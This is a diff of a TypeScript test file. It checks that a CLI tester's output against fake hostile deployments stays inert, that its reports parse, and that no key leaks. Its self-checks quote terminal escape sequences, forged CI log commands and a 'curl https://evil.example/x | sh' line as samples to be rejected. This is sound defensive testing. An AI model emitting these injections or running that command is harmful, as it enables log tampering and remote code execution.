@@ -1,6 +1,7 @@
 // What a hostile deployment can make the tester print or write, run end to end
 // through the built CLI: nothing that acts on a terminal or a CI log, reports
 // that parse whatever bytes came back, and no piece of a key in any form.
+// `pnpm test` runs the behaviours test/tiers.ts names; CI's `pnpm test:deployments` the others.
 import { mkdtemp, readFile, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -11,6 +12,8 @@ import { reportSchema } from '../src/report/report-schema.js';
 import { runCli, type CliRun } from './cli-process.js';
 import { type HostileName, startFakeDeployment } from './fake-deployment/server.js';
 import { expectInertConsole } from './inert-console.js';
+import { casesOfThisTier, named, runsTestsBesideTheSweep } from './tier-cases.js';
+import { REPRESENTATIVES } from './tiers.js';
 import { xmlProblems } from './xml-well-formed.js';
 
 const ajv = new Ajv2020({ strict: true, allErrors: true });
@@ -129,76 +132,91 @@ function keyPieces(output: string): string[] {
   return found;
 }
 
-describe.each([['terminal-injection'], ['report-breakers'], ['key-forms'], ['escape-completes-key']] as const)(
-  'a run against a deployment doing %s',
-  (behaviour) => {
-    let outputs: Outputs;
-    beforeAll(async () => {
-      outputs = await hostileRun(behaviour);
-    });
-
-    it('runs to a verdict', () => {
-      expect([0, 1, 2]).toContain(outputs.run.code);
-      expect(outputs.run.stdout).toMatch(/\(exit [012]\)/);
-    });
-
-    it('prints no character from the deployment that acts on a terminal or a CI log', () => {
-      expectInertConsole(outputs.console);
-    });
-
-    it('writes a JSON report matching its schema, a HAR that parses and well-formed JUnit XML', () => {
-      expectReportsWellFormed(outputs);
-    });
-
-    it.each(['console', 'json', 'junit', 'har', 'summary'] as const)('shows no piece of a key in the %s', (where) => {
-      expect(keyPieces(outputs[where])).toEqual([]);
-    });
-  },
+/** The hostile behaviours run through the CLI: those whose output is held to every rule, then the unreadable list. */
+const BEHAVIOURS: readonly HostileName[] = [
+  'terminal-injection',
+  'report-breakers',
+  'key-forms',
+  'escape-completes-key',
+  'deep-unsearched-list',
+];
+const title = 'a run against a deployment doing %s';
+const behaviours = casesOfThisTier(
+  title,
+  BEHAVIOURS,
+  named(title, BEHAVIOURS, (behaviour) => behaviour, REPRESENTATIVES.hostileOutputBehaviours),
 );
 
-describe('a run against a deployment whose unsearched lists are nested 20,000 levels deep', () => {
+describe.each(behaviours.filter((behaviour) => behaviour !== 'deep-unsearched-list'))(title, (behaviour) => {
   let outputs: Outputs;
   beforeAll(async () => {
-    outputs = await hostileRun('deep-unsearched-list');
+    outputs = await hostileRun(behaviour);
   });
 
-  it('judges those answers as unreadable bodies and ends with a verdict on the deployment', () => {
-    expect(outputs.run.stderr).not.toMatch(/Cannot read properties|TypeError|could not judge/);
-    expect([0, 1]).toContain(outputs.run.code);
-    expect(outputs.console).toMatch(/a body that is not JSON \(the body was not parsed: it is nested deeper than 64/);
+  it('runs to a verdict', () => {
+    expect([0, 1, 2]).toContain(outputs.run.code);
+    expect(outputs.run.stdout).toMatch(/\(exit [012]\)/);
   });
 
-  it('writes every report', () => {
+  it('prints no character from the deployment that acts on a terminal or a CI log', () => {
+    expectInertConsole(outputs.console);
+  });
+
+  it('writes a JSON report matching its schema, a HAR that parses and well-formed JUnit XML', () => {
     expectReportsWellFormed(outputs);
-    expect(outputs.summary).toMatch(/tallyport-contract: (conforms|violations found)/);
+  });
+
+  it.each(['console', 'json', 'junit', 'har', 'summary'] as const)('shows no piece of a key in the %s', (where) => {
+    expect(keyPieces(outputs[where])).toEqual([]);
   });
 });
 
-describe('the checks of these tests', () => {
-  let dir: string;
-  beforeAll(async () => {
-    dir = await mkdtemp(join(tmpdir(), 'tallyport-hostile-self-'));
-  });
-  afterAll(async () => {
-    await rm(dir, { recursive: true, force: true });
+if (behaviours.includes('deep-unsearched-list'))
+  describe('a run against a deployment whose unsearched lists are nested 20,000 levels deep', () => {
+    let outputs: Outputs;
+    beforeAll(async () => {
+      outputs = await hostileRun('deep-unsearched-list');
+    });
+
+    it('judges those answers as unreadable bodies and ends with a verdict on the deployment', () => {
+      expect(outputs.run.stderr).not.toMatch(/Cannot read properties|TypeError|could not judge/);
+      expect([0, 1]).toContain(outputs.run.code);
+      expect(outputs.console).toMatch(/a body that is not JSON \(the body was not parsed: it is nested deeper than 64/);
+    });
+
+    it('writes every report', () => {
+      expectReportsWellFormed(outputs);
+      expect(outputs.summary).toMatch(/tallyport-contract: (conforms|violations found)/);
+    });
   });
 
-  it('see a key piece in any form, split or escaped', () => {
-    const hex = Buffer.from(ANALYTICS_KEY).toString('hex');
-    for (const leak of [
-      `x ${ANALYTICS_KEY.slice(3, 9).toUpperCase()} y`,
-      `x ${hex.slice(4, 16)} y`,
-      `x ${ANALYTICS_KEY.slice(0, 4)}\\x1b[31m${ANALYTICS_KEY.slice(4, 8)} y`,
-      `x ${[...ANALYTICS_KEY.slice(0, 7)].join('\u200b')} y`,
-    ])
-      expect(keyPieces(leak), leak).not.toEqual([]);
-    expect(keyPieces('tallyport-contract: checking deployments')).toEqual([]);
-  });
+// Tests of the checks above, not of a run: in `pnpm test` only, so they too run in one tier.
+if (runsTestsBesideTheSweep())
+  describe('the checks of these tests', () => {
+    let dir: string;
+    beforeAll(async () => {
+      dir = await mkdtemp(join(tmpdir(), 'tallyport-hostile-self-'));
+    });
+    afterAll(async () => {
+      await rm(dir, { recursive: true, force: true });
+    });
 
-  it('see active characters and forged lines', () => {
-    expect(() => expectInertConsole('a \u001b[2J b')).toThrow();
-    expect(() => expectInertConsole('ok\n::warning title=owned::x')).toThrow();
-    expect(() => expectInertConsole('x ##vso[task.setvariable]')).toThrow();
-    expect(() => expectInertConsole('ok\n    curl: curl https://evil.example/x | sh')).toThrow();
+    it('see a key piece in any form, split or escaped', () => {
+      const hex = Buffer.from(ANALYTICS_KEY).toString('hex');
+      for (const leak of [
+        `x ${ANALYTICS_KEY.slice(3, 9).toUpperCase()} y`,
+        `x ${hex.slice(4, 16)} y`,
+        `x ${ANALYTICS_KEY.slice(0, 4)}\\x1b[31m${ANALYTICS_KEY.slice(4, 8)} y`,
+        `x ${[...ANALYTICS_KEY.slice(0, 7)].join('\u200b')} y`,
+      ])
+        expect(keyPieces(leak), leak).not.toEqual([]);
+      expect(keyPieces('tallyport-contract: checking deployments')).toEqual([]);
+    });
+
+    it('see active characters and forged lines', () => {
+      expect(() => expectInertConsole('a \u001b[2J b')).toThrow();
+      expect(() => expectInertConsole('ok\n::warning title=owned::x')).toThrow();
+      expect(() => expectInertConsole('x ##vso[task.setvariable]')).toThrow();
+      expect(() => expectInertConsole('ok\n    curl: curl https://evil.example/x | sh')).toThrow();
+    });
   });
-});
